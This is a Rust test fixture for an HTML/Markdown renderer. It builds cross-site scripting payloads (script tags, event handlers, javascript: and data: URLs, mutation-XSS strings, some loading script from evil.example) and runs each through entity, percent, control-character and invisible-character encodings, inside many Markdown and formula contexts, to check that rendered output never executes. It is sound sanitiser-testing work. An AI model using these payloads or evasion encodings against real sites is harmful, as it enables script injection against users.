//! Hostile content: what wants to run (sinks), how it hides (encodings), where it stands (contexts). Deterministic.
//!
//! The cases are prompts, answers, titles, file names and shared pages in tests: here against the rendered HTML, and as JSON
//! (`cargo run -p rempart-render --example hostile`) in a browser against the real program. Whatever runs sets `window.hostile`.

/// One case.
#[derive(Debug, Clone)]
pub(crate) struct Case {
    /// Sink, encoding and context, joined by `/`: unique.
    pub(crate) name: String,
    /// What the stranger writes.
    pub(crate) text: String,
}

/// What must never run.
const PROOF: &str = "window.hostile=1";

const SINKS: [(&str, &str); 30] = [
    ("script", "<script>PROOF</script>"),
    ("script src", "<script src=https://evil.example/x.js></script>"),
    ("img onerror", "<img src=x onerror=PROOF>"),
    ("img slash", "<img/src=x/onerror=PROOF>"),
    ("svg onload", "<svg onload=PROOF>"),
    ("svg script", "<svg><script>PROOF</script></svg>"),
    ("svg animate", "<svg><a><animate attributeName=href values=javascript:PROOF /><text x=20 y=20>x</text></a></svg>"),
    ("iframe", "<iframe src=\"javascript:PROOF\"></iframe>"),
    ("iframe srcdoc", "<iframe srcdoc=\"<script>top.PROOF</script>\"></iframe>"),
    ("object", "<object data=\"data:text/html,<script>top.PROOF</script>\"></object>"),
    ("anchor", "<a href=\"javascript:PROOF\">x</a>"),
    ("style", "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/x)}</style>"),
    ("style attribute", "<p style=\"background:url(https://evil.example/x);position:fixed;inset:0\">x</p>"),
    ("form", "<form action=\"javascript:PROOF\"><input type=submit autofocus onfocus=PROOF></form>"),
    ("details", "<details open ontoggle=PROOF><summary>x</summary></details>"),
    ("base", "<base href=\"https://evil.example/\">"),
    ("meta refresh", "<meta http-equiv=refresh content=\"0;url=javascript:PROOF\">"),
    ("link", "<link rel=stylesheet href=https://evil.example/x.css>"),
    ("video", "<video><source onerror=PROOF></video>"),
    ("marquee", "<marquee onstart=PROOF>x</marquee>"),
    ("template", "<template><img src=x onerror=PROOF></template>"),
    (
        "mutation math",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=PROOF&gt;\">",
    ),
    ("mutation noscript", "<noscript><p title=\"</noscript><img src=x onerror=PROOF>\">"),
    ("annotation", "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=PROOF></annotation-xml></math>"),
    ("breakout", "\"'></code></pre></div></textarea></title></style><img src=x onerror=PROOF>"),
    ("handler", "\" onmouseover=PROOF autofocus onfocus=PROOF x=\""),
    ("javascript url", "javascript:PROOF"),
    ("data url", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+"),
    ("vbscript url", "vbscript:msgbox(1)"),
    ("relative url", "//evil.example/x?PROOF"),
];

type Encoding = fn(&str) -> String;

const ENCODINGS: [(&str, Encoding); 12] = [
    ("plain", str::to_owned),
    ("mixed case", |text| {
        text.chars().enumerate().map(|(at, c)| if at % 2 == 0 { c.to_ascii_uppercase() } else { c }).collect()
    }),
    ("decimal entities", |text| every(text, |c| format!("&#{};", u32::from(c)))),
    ("hex entities", |text| every(text, |c| format!("&#x{:x}", u32::from(c)))),
    ("named entities", |text| {
        text.replace('<', "&lt;").replace('>', "&gt;").replace(':', "&colon;").replace('(', "&lpar;")
    }),
    ("double entities", |text| text.replace('<', "&amp;lt;").replace('>', "&amp;gt;")),
    ("percent", |text| every(text, |c| format!("%{:02x}", u32::from(c)))),
    ("tabs and feeds", |text| text.replace("script", "scr\tipt").replace("javascript:", "java&#x0A;script&#x09;:")),
    ("nul and controls", |text| text.replace('<', "<\0").replace("javascript", "\u{1}java\0script")),
    ("backslashes", |text| text.replace('<', "\\<").replace("javascript:", "java\\script:")),
    ("unicode escapes", |text| text.replace('<', "\\u003c").replace('>', "\\u003e")),
    ("invisible signs", |text| {
        text.replace("script", "scr\u{200b}ipt").replace(':', "\u{202e}:").replace('<', "\u{fdd0}<\u{fdd1}0\u{fdd2}")
    }),
];

const CONTEXTS: [(&str, &str); 30] = [
    ("bare", "PAYLOAD"),
    ("in words", "before PAYLOAD after"),
    ("link address", "[click](PAYLOAD)"),
    ("link address in brackets", "[click](<PAYLOAD>)"),
    ("link title", "[click](https://a.example/ \"PAYLOAD\")"),
    ("link text", "[PAYLOAD](https://a.example/)"),
    ("image address", "![alt](PAYLOAD)"),
    ("image description", "![PAYLOAD](https://a.example/x.png)"),
    ("automatic link", "<PAYLOAD>"),
    ("web address", "https://a.example/PAYLOAD"),
    ("definition", "[click][1]\n\n[1]: PAYLOAD\n"),
    ("definition title", "[click][1]\n\n[1]: https://a.example 'PAYLOAD'\n"),
    ("fence word", "```PAYLOAD\ncode\n```"),
    ("fenced code", "```html\nPAYLOAD\n```"),
    ("indented code", "    PAYLOAD"),
    ("code span", "`PAYLOAD`"),
    ("table cell", "| a |\n|---|\n| PAYLOAD |"),
    ("table head", "| PAYLOAD |\n|---|\n| a |"),
    ("heading", "# PAYLOAD"),
    ("list item", "- [ ] PAYLOAD"),
    ("quote", "> PAYLOAD"),
    ("emphasis", "**PAYLOAD** _PAYLOAD_ ~~PAYLOAD~~"),
    ("raw block", "<div>\nPAYLOAD\n</div>"),
    ("comment", "<!-- -->PAYLOAD<!-- x"),
    ("section", "<![CDATA[PAYLOAD]]>"),
    ("formula text", "$\\text{PAYLOAD}$"),
    ("formula", "$$PAYLOAD$$"),
    ("formula link", "\\(\\href{PAYLOAD}{x} \\url{PAYLOAD} \\class{PAYLOAD}{x} \\style{PAYLOAD}{x}\\)"),
    ("formula colour", "\\[\\color{PAYLOAD} x \\begin{PAYLOAD} y \\end{PAYLOAD}\\]"),
    ("line break", "a<br PAYLOAD>b<br/PAYLOAD>"),
];

/// Every sink in every context, and every encoding in each of them as the count goes round; then every sink in every encoding.
pub(crate) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut turn = 0;
    for (sink, payload) in SINKS {
        let payload = payload.replace("PROOF", PROOF);
        for (context, around) in CONTEXTS {
            let (encoding, encode) = ENCODINGS[turn % ENCODINGS.len()];
            turn += 1;
            cases.push(Case {
                name: format!("{sink}/{encoding}/{context}"),
                text: around.replace("PAYLOAD", &encode(&payload)),
            });
        }
        for (index, (encoding, encode)) in ENCODINGS.into_iter().enumerate() {
            let (context, around) = CONTEXTS[(index + turn) % 6];
            cases.push(Case {
                name: format!("{sink}/{encoding}/{context} again"),
                text: around.replace("PAYLOAD", &encode(&payload)),
            });
        }
        // A count prime to both tables, so that each sink meets other pairs.
        turn += 1;
    }
    cases
}

fn every(text: &str, encode: impl Fn(char) -> String) -> String {
    text.chars()
        .map(|c| if c.is_ascii_alphabetic() || "<>:\"'=/(".contains(c) { encode(c) } else { c.to_string() })
        .collect()
}
